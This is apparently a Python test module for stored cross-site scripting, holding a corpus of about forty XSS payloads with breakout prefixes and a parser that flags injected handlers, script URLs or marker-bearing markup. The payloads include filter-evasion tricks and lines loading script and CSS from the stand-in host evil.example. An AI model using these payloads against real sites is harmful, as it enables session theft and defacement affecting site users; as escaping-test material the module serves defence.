"""The stored-XSS corpus and the checker that finds an injection in a page.

Every payload carries a unique marker (XSS007Q). Escaped, the marker shows as text; injected, it
shows up as an element's attribute, an event handler, script content or a javascript: URL, which
`injections(html, marker)` reports.
"""
from html.parser import HTMLParser

VECTORS = [
    "<script>alert('{m}')</script>",
    "<script src=//evil.example/{m}.js></script>",
    "<img src=x onerror=alert('{m}') id={m}>",
    "<img src=`x` onerror=alert('{m}') id={m}>",
    "<IMG SRC=JaVaScRiPt:alert('{m}') id={m}>",
    "<svg onload=alert('{m}') id={m}>",
    "<svg><script>alert('{m}')</script></svg>",
    "<svg><a xlink:href=javascript:alert('{m}') id={m}><text>x</text></a></svg>",
    "<iframe src=javascript:alert('{m}') id={m}></iframe>",
    "<iframe srcdoc=\"<script>alert('{m}')</script>\" id={m}></iframe>",
    "<a href=javascript:alert('{m}') id={m}>click</a>",
    "<a href=\"&#106;avascript:alert('{m}')\" id={m}>click</a>",
    "<a href=\"jav&#x09;ascript:alert('{m}')\" id={m}>click</a>",
    "<body onload=alert('{m}') id={m}>",
    "<input autofocus onfocus=alert('{m}') id={m}>",
    "<details open ontoggle=alert('{m}') id={m}>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('{m}') id={m}>",
    "<object data=javascript:alert('{m}') id={m}></object>",
    "<embed src=javascript:alert('{m}') id={m}>",
    "<form action=javascript:alert('{m}') id={m}><button>go</button></form>",
    "<button formaction=javascript:alert('{m}') id={m}>go</button>",
    "<marquee onstart=alert('{m}') id={m}>",
    "<video><source onerror=alert('{m}') id={m}></video>",
    "<audio src=x onerror=alert('{m}') id={m}>",
    "<style>@import 'https://evil.example/{m}.css';</style>",
    "<div style=\"background:url(javascript:alert('{m}'))\" id={m}>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert('{m}')\" id={m}>",
    "<base href=\"javascript:alert('{m}')//\" id={m}>",
    "<link rel=stylesheet href=javascript:alert('{m}') id={m}>",
    "<<script>alert('{m}');//<</script>",
    "<scr<script>ipt>alert('{m}')</scr</script>ipt>",
    "<template><img src=x onerror=alert('{m}') id={m}></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('{m}') id={m}>\">",
    "<textarea></textarea><img src=x onerror=alert('{m}') id={m}>",
    "\" onmouseover=\"alert('{m}')\" autofocus onfocus=\"alert('{m}')\" x=\"",
    "' onmouseover='alert(\"{m}\")' autofocus onfocus='alert(\"{m}\")' x='",
    "javascript:alert('{m}')",
    "{{{{ config }}}}{{% raw %}}<b id={m}>",
    "[click](javascript:alert('{m}')) <b id={m}>b</b>",
    "<select onfocus=alert('{m}') autofocus id={m}>",
    "<keygen autofocus onfocus=alert('{m}') id={m}>",
    "<img src=\"x\" onerror=\"&#97;lert('{m}')\" id={m}>",
]
BREAKOUTS = ["", "\"><", "'></", "</textarea></title></script></style>-->"]


def corpus() -> list[str]:
    payloads = []
    for i, (prefix, vector) in enumerate((p, v) for p in BREAKOUTS for v in VECTORS):
        payloads.append(prefix + vector.format(m=marker(i)))
    return payloads


def marker(i: int) -> str:
    return f"XSS{i:03d}Q"


URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc", "background", "poster"}
INERT_ATTRIBUTES = {"value", "title", "aria-label", "alt", "placeholder", "content", "datetime", "aria-description"}
RAW_TEXT = {"script", "style"}


class _Finder(HTMLParser):
    def __init__(self, marker):
        super().__init__(convert_charrefs=True)
        self.marker, self.found, self._raw = marker, [], None

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=...>: an event handler attribute")
            flat = "".join(ch for ch in value if ch > " ").lower()
            if name in URL_ATTRIBUTES and flat.startswith(("javascript:", "vbscript:", "data:text/html")):
                self.found.append(f"<{tag} {name}={value[:60]!r}>: a script URL")
            if self.marker in name or (self.marker in value and name not in INERT_ATTRIBUTES
                                       and not (name == "href" and flat.startswith(("http://", "https://", "/")))
                                       and not name.startswith("data-")):
                self.found.append(f"<{tag} {name}={value[:60]!r}>: the payload became markup")
        if tag in RAW_TEXT:
            self._raw = tag

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        if tag == self._raw:
            self._raw = None

    def handle_data(self, data):
        if self._raw and self.marker in data:
            self.found.append(f"<{self._raw}> holding the payload")


def injections(html: str, marker: str = "XSS") -> list[str]:
    """What in the page shows an injection: event handlers, script URLs, elements or scripts carrying the marker."""
    finder = _Finder(marker)
    finder.feed(html)
    finder.close()
    return finder.found
